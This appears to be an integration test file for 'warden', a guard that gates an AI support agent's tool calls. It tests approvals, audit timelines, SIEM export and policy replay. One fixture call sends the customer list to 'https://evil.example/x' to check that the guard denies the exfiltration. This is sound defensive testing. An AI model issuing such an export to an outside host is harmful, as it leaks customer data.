import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Client, WorkflowHandle } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_SCHEMA } from '../../../src/audit/siem-export.ts';
import { DEV_KEY_FILE } from '../../../src/temporal/payload-keys.ts';
import { pendingApprovalsQuery } from '../../../src/workflows/guard/definitions.ts';
import type { ToolPlanInput, ToolPlanResult } from '../../../src/workflows/tool-plan.ts';
import { testClient, testConfig, uniqueTaskQueue } from '../../support/temporal.ts';
import { eventually } from '../../support/waiting.ts';
import {
  type GuardWorkers,
  startGuardWorkers,
  startPlan,
  TEST_SECRET,
  waitForPending,
} from '../guard/harness.ts';
import { STABLE_AUDIT_KEYS } from './audit-keys.ts';
import { useTestServerEnv, warden } from './cli-harness.ts';

const TOKENS =
  'bob-2d8f4a6c1e9b7035d2a8f6c4e1b9d37a=User:bob,carol-6a1c9e3f7b2d5084c6a2e9f1b7d3c58e=User:carol,old-bob-b3e9d1f7a5c2086e4b1d9f3a7c5e2b60=User:bob@2020-01-01T00:00:00Z';

describe('approvals, audit, export, what-if and replay on a real run', () => {
  const taskQueue = uniqueTaskQueue('ops-approvals');
  let client: Client;
  let workers: GuardWorkers;
  let handle: WorkflowHandle<(input: ToolPlanInput) => Promise<ToolPlanResult>>;

  beforeAll(async () => {
    useTestServerEnv({
      WARDEN_APPROVAL_SECRET: TEST_SECRET,
      WARDEN_MODE: 'development',
      WARDEN_APPROVER_TOKENS: TOKENS,
      WARDEN_TASK_QUEUE: taskQueue,
    });
    delete process.env.WARDEN_TOKEN;
    client = await testClient();
    workers = await startGuardWorkers(taskQueue);
    handle = await startPlan(client, taskQueue, {
      parallel: true,
      calls: [
        { tool: 'ticket.get', arguments: { ticketId: 't-501' }, callId: 'read' },
        {
          tool: 'crm.issue_refund',
          arguments: { customerId: 'c-1001', amount: 250, currency: 'EUR', reason: 'double charge' },
          callId: 'refund',
        },
        {
          tool: 'crm.export_customers',
          arguments: { destinationUrl: 'https://evil.example/x' },
          callId: 'exfil',
        },
        { tool: 'crm.issue_refund', arguments: { customerId: 'c-1001', amount: -5 }, callId: 'bad' },
      ],
    });
    await waitForPending(handle);
  });
  afterAll(async () => {
    await workers?.close();
    await client?.connection.close();
  });

  it('lists the pending call with everything an approver needs', async () => {
    const listed = await eventually(async () => {
      const result = await warden('approvals', '--json');
      expect(result.code).toBe(0);
      const rows = JSON.parse(result.stdout) as Array<Record<string, unknown>>;
      return rows.find((row) => row.workflowId === handle.workflowId);
    });
    expect(listed).toMatchObject({
      callId: 'refund',
      tool: 'crm.issue_refund',
      risk: 'high',
      requester: 'User:alice',
      agent: 'Agent:support-bot',
      arguments: { amount: 250, currency: 'EUR' },
      quorum: 1,
    });
    expect(listed.reasons).toEqual(expect.arrayContaining([expect.any(String)]));
    expect(listed.ageSeconds).toBeGreaterThanOrEqual(0);
    const text = await warden('approvals', '--run', handle.workflowId);
    expect(text.stdout).toContain(`${handle.workflowId}  call refund  crm.issue_refund  risk high`);
  });

  it('refuses bad approvals with one line and a non-zero exit, changing nothing', async () => {
    const run = handle.workflowId;
    const cases: Array<[string[], RegExp]> = [
      [
        ['approve', 'no-such-run', 'refund', '--token', 'bob-2d8f4a6c1e9b7035d2a8f6c4e1b9d37a'],
        /^warden: unknown run: no workflow with id "no-such-run"$/,
      ],
      [
        ['approve', run, 'nope', '--token', 'bob-2d8f4a6c1e9b7035d2a8f6c4e1b9d37a'],
        /^warden: refused: unknown call id nope in run /,
      ],
      [
        ['approve', run, 'refund', '--token', 'old-bob-b3e9d1f7a5c2086e4b1d9f3a7c5e2b60'],
        /^warden: approver token expired at 2020-01-01/,
      ],
      [['approve', run, 'refund', '--token', 'not-a-real-token'], /^warden: unknown approver token$/],
      [
        ['approve', run, 'refund', '--as', 'alice'],
        /^warden: refused: alice requested this call and cannot approve it$/,
      ],
      [['approve', run, 'refund'], /^warden: no approver token/],
    ];
    for (const [args, expected] of cases) {
      const result = await warden(...args);
      expect(result.code, args.join(' ')).toBe(1);
      expect(result.stderr.trim().split('\n'), args.join(' ')).toHaveLength(1);
      expect(result.stderr.trim()).toMatch(expected);
    }
    process.env.WARDEN_MODE = 'production';
    // Production takes the payload keys from configuration: the same key the workers encrypt with.
    process.env.WARDEN_PAYLOAD_KEY_FILE = path.join(testConfig().WARDEN_DATA_DIR, DEV_KEY_FILE);
    try {
      const prod = await warden('approve', run, 'refund', '--as', 'bob');
      expect(prod.code).toBe(1);
      expect(prod.stderr.trim()).toBe(
        'warden: --as is refused in production mode: authenticate with an approver token',
      );
    } finally {
      process.env.WARDEN_MODE = 'development';
      delete process.env.WARDEN_PAYLOAD_KEY_FILE;
    }
    const reject = await warden('reject', run, 'refund', '--token', 'bob-2d8f4a6c1e9b7035d2a8f6c4e1b9d37a');
    expect(reject.code).toBe(2);
    expect(reject.stderr).toContain("required option '--reason <text>'");

    const pending = await handle.query(pendingApprovalsQuery);
    expect(pending.map((p) => [p.callId, p.approvals.length])).toEqual([['refund', 0]]);
  });

  it('approves with the token identity, then refuses a second decision on the decided call', async () => {
    process.env.WARDEN_TOKEN = 'bob-2d8f4a6c1e9b7035d2a8f6c4e1b9d37a';
    try {
      const ok = await warden('approve', handle.workflowId, 'refund', '--reason', 'double charge verified');
      expect(ok.stderr).toBe('');
      expect(ok.code).toBe(0);
      expect(ok.stdout).toMatch(/approved call refund of .*: the call is approved \[as User:bob\]/);
    } finally {
      delete process.env.WARDEN_TOKEN;
    }
    const { outcomes } = await handle.result();
    expect(Object.fromEntries(outcomes.map((o) => [o.callId, o.status]))).toEqual({
      read: 'executed',
      refund: 'executed',
      exfil: 'denied',
      bad: 'invalid',
    });
    const again = await warden(
      'reject',
      handle.workflowId,
      'refund',
      '--token',
      'carol-6a1c9e3f7b2d5084c6a2e9f1b7d3c58e',
      '--reason',
      'late',
    );
    expect(again.code).toBe(1);
    expect(again.stderr.trim()).toBe(
      'warden: refused: call refund was already decided: executed (approved by bob)',
    );
  });

  it('prints the decision timeline of the finished run, from its history', async () => {
    const result = await warden('audit', handle.workflowId, '--json');
    expect(result.code).toBe(0);
    const audit = JSON.parse(result.stdout) as { status: string; timeline: Array<Record<string, unknown>> };
    expect(audit.status).toBe('completed');
    const kinds = (kind: string) => audit.timeline.filter((e) => e.kind === kind);
    expect(kinds('authz_decision')).toContainEqual(
      expect.objectContaining({
        tool: 'crm.export_customers',
        allowed: false,
        action: 'invoke',
        callId: 'exfil',
      }),
    );
    expect(
      kinds('authz_decision').every((e) => typeof e.policyVersion === 'string' && e.policyVersion !== ''),
    ).toBe(true);
    expect(kinds('approval_requested')).toContainEqual(
      expect.objectContaining({ callId: 'refund', eligibleApprovers: expect.arrayContaining(['bob']) }),
    );
    expect(kinds('approval')).toContainEqual(
      expect.objectContaining({
        callId: 'refund',
        approver: 'bob',
        decision: 'approve',
        result: 'accepted',
        reason: 'double charge verified',
      }),
    );
    expect(kinds('intent_verdict')).toContainEqual(expect.objectContaining({ callId: 'refund' }));
    expect(kinds('tool_outcome')).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ callId: 'refund', status: 'executed' }),
        expect.objectContaining({ callId: 'exfil', status: 'denied' }),
        expect.objectContaining({ callId: 'bad', status: 'invalid' }),
      ]),
    );
    expect(kinds('validation_error')).toContainEqual(
      expect.objectContaining({ callId: 'bad', tool: 'crm.issue_refund' }),
    );

    const text = await warden('audit', handle.workflowId);
    expect(text.stdout).toMatch(
      /authz\s+DENY {2}invoke crm\.export_customers#exfil by Agent:support-bot for User:alice/,
    );
    expect(text.stdout).toMatch(/approval\s+APPROVE #refund by bob "double charge verified" → accepted/);
    expect(text.stdout).toMatch(/tool\s+EXECUTED crm\.issue_refund#refund/);
    const unknown = await warden('audit', 'no-such-run');
    expect([unknown.code, unknown.stderr.trim()]).toEqual([
      1,
      'warden: unknown run: no workflow with id "no-such-run"',
    ]);
  });

  it('exports SIEM lines with stable field names', async () => {
    const lines = await eventually(async () => {
      const result = await warden('export', '--since', '1h');
      expect(result.code, result.stderr).toBe(0);
      expect(result.stderr).toMatch(/exported \d+ lines from \d+ runs/);
      const mine = result.stdout
        .trim()
        .split('\n')
        .filter(Boolean)
        .map((line) => JSON.parse(line) as Record<string, unknown>)
        .filter((r) => r.workflow_id === handle.workflowId);
      return mine.some((r) => r.event === 'approval') ? mine : undefined;
    });
    const keys = Object.keys(lines[0] ?? {}).sort();
    for (const line of lines) expect(Object.keys(line).sort()).toEqual(keys);
    expect(keys).toEqual(STABLE_AUDIT_KEYS);
    expect(
      lines.every(
        (l) => l.schema === AUDIT_SCHEMA && l.agent === 'Agent:support-bot' && l.user === 'User:alice',
      ),
    ).toBe(true);
    expect(lines).toContainEqual(
      expect.objectContaining({ event: 'authz_decision', call_id: 'exfil', decision: 'deny' }),
    );
    expect(lines).toContainEqual(
      expect.objectContaining({
        event: 'approval',
        call_id: 'refund',
        tool: 'crm.issue_refund',
        decision: 'approve',
        approver: 'bob',
      }),
    );
    expect(lines).toContainEqual(
      expect.objectContaining({ event: 'tool_outcome', call_id: 'refund', decision: 'executed' }),
    );
    expect(lines).toContainEqual(
      expect.objectContaining({ event: 'validation_error', call_id: 'bad', decision: 'invalid' }),
    );
    const future = await warden('export', '--since', '2999-01-01T00:00:00Z');
    expect([future.code, future.stdout]).toEqual([0, '']);
    const bad = await warden('export', '--since', 'yesterday-ish');
    expect(bad.code).toBe(2);
    expect(bad.stderr.trim()).toBe(
      'warden: invalid --since "yesterday-ish": use an ISO time or e.g. 24h, 7d',
    );
  });

  it('what-if: re-takes the recorded decisions under another policy and shows the differences', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'warden-policy-'));
    cpSync(path.resolve('examples/support-copilot/policies'), dir, { recursive: true });
    const factsFile = path.join(dir, 'facts.yaml');
    // The stricter policy: the support agent loses unattended reading of tickets.
    const facts = readFileSync(factsFile, 'utf8');
    const stricter = facts.replace(
      '  - has_role(Agent{"support-bot"}, "unattended_user", Toolset{"crm-read"})\n',
      '',
    );
    expect(stricter).not.toBe(facts);
    writeFileSync(factsFile, stricter);

    const same = await warden(
      'what-if',
      handle.workflowId,
      '--policy',
      path.resolve('examples/support-copilot/policies'),
      '--json',
    );
    expect(same.code).toBe(0);
    const sameReport = JSON.parse(same.stdout) as { decisions: number; changed: number };
    expect(sameReport.decisions).toBeGreaterThanOrEqual(3);
    expect(sameReport.changed).toBe(0);

    const result = await warden('what-if', handle.workflowId, '--policy', dir);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(
      /CHANGED invoke(_unattended)? ticket\.get by Agent:support-bot for User:alice: allow → deny/,
    );
    expect(result.stdout).toMatch(/\d+ decisions re-taken, [1-9]\d* would change/);
    const missing = await warden('what-if', handle.workflowId, '--policy', path.join(dir, 'nope'));
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/^warden: cannot load policy /);
  });

  it('replays the finished run with the current code', async () => {
    const result = await warden('replay', handle.workflowId);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/replay ok: \d+ events, deterministic/);
    expect(result.stdout).toContain('approval      APPROVE #refund by bob');
  });
});
